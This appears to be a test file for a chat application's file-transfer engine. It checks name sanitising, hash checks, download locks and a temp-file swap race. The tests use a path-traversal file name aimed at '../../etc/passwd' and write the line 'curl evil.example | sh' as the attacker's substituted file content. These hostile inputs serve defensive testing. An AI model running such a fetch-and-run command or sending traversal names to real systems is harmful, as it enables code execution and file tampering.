/**
 * The file-transfer engine (PROTOCOL.md §16) against the real relay binary: an offer whose name is a path traversal
 * (which `chat send-file` itself can never produce) is saved under a sanitised name inside the downloads directory,
 * a download whose whole-file hash does not match the signed offer leaves nothing under the final name, and a temp
 * file swapped under its name after the check is never published under the final name.
 */
import { createHash, randomBytes } from 'node:crypto';
import { existsSync, readFileSync, readdirSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { MessageKind, encodeFileOffer, generateFileKey, sealChunk, streamSealedSize } from '@chat/crypto';
import { makeUser, relayInProcess, tempDir, type InProcessRelay } from '../../../test/helpers.js';
import { Messenger } from '../messenger.js';
import { blobNew, blobPut } from '../net/blobs.js';
import type { Profile } from '../profile.js';
import { tryLock } from '../store/locks.js';
import { acceptFile, declineFile } from './download.js';
import { sendFile } from './upload.js';

let t: ReturnType<typeof tempDir>;
let relay: InProcessRelay;
let alice: Profile;
let bob: Profile;
beforeAll(async () => {
  t = tempDir('files-engine');
  relay = await relayInProcess(`${t.dir}/relay`);
  alice = (await makeUser(t.dir, 'alice', relay.address)).profile;
  bob = (await makeUser(t.dir, 'bob', relay.address)).profile;
});
afterAll(async () => {
  await relay.stop();
  t.cleanup();
});

/** Uploads `data` as one chunk and offers it under `name` with `sha256` (default: the real hash). */
async function offerRaw(name: string, data: Buffer, sha256?: Buffer): Promise<string> {
  const m = await Messenger.open(alice);
  try {
    const bid = randomBytes(16);
    const key = generateFileKey();
    const conn = await m.connect('send');
    try {
      await blobNew(conn, bid, 'bob', streamSealedSize(data.length), 1);
      await blobPut(conn, bid, 0, sealChunk(data, key, 0, true));
      const body = encodeFileOffer({
        blob: bid,
        size: data.length,
        key,
        sha256: sha256 ?? createHash('sha256').update(data).digest(),
        name,
        type: 'text/plain',
      });
      await m.sendControl('bob', MessageKind.fileOffer, body, conn);
    } finally {
      await conn.close();
    }
    return bid.toString('hex');
  } finally {
    m.close();
  }
}

async function receive(): Promise<Messenger> {
  const m = await Messenger.open(bob);
  await m.receive();
  return m;
}

it('saves ../../etc/passwd with control characters as a plain name inside the downloads directory', async () => {
  const id = await offerRaw('../../etc/pa\u0000ss\u001b]0;x\u0007wd', Buffer.from('root:x:0:0'));
  const m = await receive();
  try {
    expect(m.store.files.get(id)).toMatchObject({ state: 'offered', name: '../../etc/pa\u0000ss\u001b]0;x\u0007wd' });
    const dir = join(t.dir, 'dl', 'inner');
    const got = await acceptFile(m, id, dir);
    expect(got.path).toBe(join(dir, 'pa_ss_]0;x_wd'));
    expect(readdirSync(dir)).toEqual(['pa_ss_]0;x_wd']);
    expect(readFileSync(got.path!, 'utf8')).toBe('root:x:0:0');
    expect(existsSync(join(t.dir, 'etc'))).toBe(false);
  } finally {
    m.close();
  }
});

it('a downloads directory that cannot be made (under a file, under /proc): DIRECTORY_NOT_CREATED, still offered', async () => {
  const id = await offerRaw('notes.txt', Buffer.from('kept for later'));
  const m = await receive();
  try {
    const file = join(t.dir, 'not-a-dir');
    writeFileSync(file, 'x');
    // /proc: Node 20's recursive mkdirSync never returned there.
    for (const dir of [file, join(file, 'dl'), '/proc/nonexistent/dl']) {
      await expect(acceptFile(m, id, dir), dir).rejects.toMatchObject({ code: 'DIRECTORY_NOT_CREATED' });
      expect(m.store.files.get(id)?.state, dir).toBe('offered');
    }
    expect((await acceptFile(m, id, join(t.dir, 'dl-later'))).state).toBe('received');
  } finally {
    m.close();
  }
});

it('send-file refuses a /proc file that says 0 bytes (it would arrive empty); an empty file still goes', async () => {
  const m = await Messenger.open(alice);
  try {
    await expect(sendFile(m, 'bob', '/proc/self/status')).rejects.toMatchObject({
      code: 'FILE_UNREADABLE',
      message: expect.stringContaining('says it is empty but has content'),
    });
    // One whose first read fails (EIO: nothing is mapped at address 0) is refused the same way, not an internal error.
    await expect(sendFile(m, 'bob', '/proc/self/mem')).rejects.toMatchObject({
      code: 'FILE_UNREADABLE',
      message: 'cannot read /proc/self/mem: EIO',
    });
    const empty = join(t.dir, 'really-empty');
    writeFileSync(empty, '');
    const sent = await sendFile(m, 'bob', empty);
    expect(sent.size).toBe(0); // a file that is empty still goes
    // Accepting one's own offer names it for what it is (it said "no file transfer": hunt2).
    await expect(acceptFile(m, sent.blob.slice(0, 8), join(t.dir, 'dl-own'))).rejects.toMatchObject({
      code: 'NO_SUCH_TRANSFER',
      message: `${sent.blob.slice(0, 8)} is a file you offered to bob, not one offered to you`,
    });
  } finally {
    m.close();
  }
});

it('accepting again answers where it was saved; if that file is gone it says so instead of "saved" (hunt2)', async () => {
  const id = await offerRaw('again.txt', Buffer.from('once'));
  const m = await receive();
  try {
    const got = await acceptFile(m, id, join(t.dir, 'dl-again'));
    expect((await acceptFile(m, id, join(t.dir, 'dl-elsewhere'))).path).toBe(got.path); // the same file, not a copy
    rmSync(got.path!);
    await expect(acceptFile(m, id, join(t.dir, 'dl-elsewhere'))).rejects.toMatchObject({
      code: 'NO_SUCH_TRANSFER',
      message: expect.stringContaining('was received already') as string,
    });
  } finally {
    m.close();
  }
});

it('a whole-file hash that does not match the offer: FILE_HASH_MISMATCH, nothing under the final name', async () => {
  const id = await offerRaw('report.txt', Buffer.from('the real content'), Buffer.alloc(32, 7));
  const m = await receive();
  try {
    const dir = join(t.dir, 'dl-hash');
    await expect(acceptFile(m, id, dir)).rejects.toMatchObject({ code: 'FILE_HASH_MISMATCH' });
    expect(readdirSync(dir)).toEqual([]);
  } finally {
    m.close();
  }
});

it('a temp file swapped after the last chunk is not published: DOWNLOAD_PATH_UNSAFE, the final name never appears', async () => {
  // Another local user who can write the downloads directory renames our verified temp file away and puts their own
  // under its name between the hash check and the move to the final name (the move used to go by path).
  const id = await offerRaw('invoice.txt', Buffer.from('the real content'));
  const m = await receive();
  try {
    const dir = join(t.dir, 'dl-swap');
    const part = join(dir, `.invoice.txt.${id}.part`);
    const swap = () => {
      renameSync(part, join(dir, 'stolen'));
      writeFileSync(part, 'curl evil.example | sh\n');
    };
    const onProgress = (p: { done: number; total: number }) => {
      if (p.done === p.total) swap();
    };
    await expect(acceptFile(m, id, dir, { onProgress })).rejects.toMatchObject({ code: 'DOWNLOAD_PATH_UNSAFE' });
    expect(existsSync(join(dir, 'invoice.txt'))).toBe(false);
    expect(readFileSync(part, 'utf8')).toBe('curl evil.example | sh\n'); // theirs is left where they put it
    expect(m.store.files.get(id)).not.toMatchObject({ state: 'received' });
  } finally {
    m.close();
  }
});

it('one download of a transfer at a time: while another process holds its claim, accept and decline are DOWNLOAD_BUSY and touch nothing', async () => {
  // Two `chat files accept` of one offer used to write one `.part` together (hunt2): the claim is the profile's lock
  // file for that transfer, held here as another process (or another client of the daemon) would hold it.
  const id = await offerRaw('once.txt', Buffer.from('downloaded once'));
  const m = await receive();
  try {
    const dir = join(t.dir, 'dl-busy');
    const lockFile = join(m.lockDir, `download-${id}.lock`);
    const other = tryLock(lockFile)!;
    expect(other).toBeDefined();
    const busy = { code: 'DOWNLOAD_BUSY', message: expect.stringContaining('being downloaded or declined by another') };
    await expect(acceptFile(m, id.slice(0, 8), dir)).rejects.toMatchObject(busy);
    await expect(declineFile(m, id.slice(0, 8), dir)).rejects.toMatchObject(busy);
    expect(m.store.files.get(id)).toMatchObject({ state: 'offered', path: null });
    expect(readdirSync(dir)).toEqual([]); // no `.part` was opened
    other.release();
    const got = await acceptFile(m, id, dir);
    expect(readFileSync(got.path!, 'utf8')).toBe('downloaded once');
    expect(existsSync(lockFile)).toBe(false); // received for good: its lock file is gone
    // The other process finishing first is found under the claim: the same answer, no second download.
    expect((await acceptFile(m, id, join(t.dir, 'dl-busy-2'))).path).toBe(got.path);
  } finally {
    m.close();
  }
});

it("a declined transfer's lock file goes; a failed download keeps it for the retry, unheld", async () => {
  const declined = await offerRaw('no.txt', Buffer.from('not wanted'));
  const bad = await offerRaw('bad.txt', Buffer.from('tampered'), Buffer.alloc(32));
  const m = await receive();
  try {
    await declineFile(m, declined);
    expect(existsSync(join(m.lockDir, `download-${declined}.lock`))).toBe(false);
    await expect(acceptFile(m, bad, join(t.dir, 'dl-bad'))).rejects.toMatchObject({ code: 'FILE_HASH_MISMATCH' });
    const lock = tryLock(join(m.lockDir, `download-${bad}.lock`));
    expect(lock).toBeDefined(); // released when the download failed
    lock!.release();
  } finally {
    m.close();
  }
});

it('an upload whose offer stays queued (the connection went after the last chunk) is offered, not left uploading', async () => {
  const m = await Messenger.open(alice);
  try {
    const src = join(t.dir, 'held-offer.txt');
    writeFileSync(src, 'offered later');
    // The network drops right after the last chunk is stored: the offer cannot go now and waits in the outbox. (The
    // connection is the messenger's own; the test only keeps a hand on it to drop it at that moment.)
    let upload: { close(): Promise<void> } | undefined;
    const connect = m.connect.bind(m);
    m.connect = async (mode) => {
      const c = await connect(mode);
      upload = c;
      return c;
    };
    const onProgress = (p: { done: number; total: number }) => {
      if (p.done === p.total) void upload?.close();
    };
    const err = await sendFile(m, 'bob', src, { onProgress }).catch((e: unknown) => e);
    expect(err).toMatchObject({ queued: true, message: expect.stringMatching(/; it is queued$/) });
    const row = m.store.files.list().find((f) => f.name === 'held-offer.txt');
    expect(row?.state).toBe('offered'); // done uploading; running send-file again would have offered it twice
    const queued = m.store.outbox.list().filter((e) => e.peer === 'bob' && e.kind === MessageKind.fileOffer);
    expect(queued).toHaveLength(1);
    for (const e of queued) m.store.outbox.remove(e.id); // left as it was for the other tests
  } finally {
    m.close();
  }
});
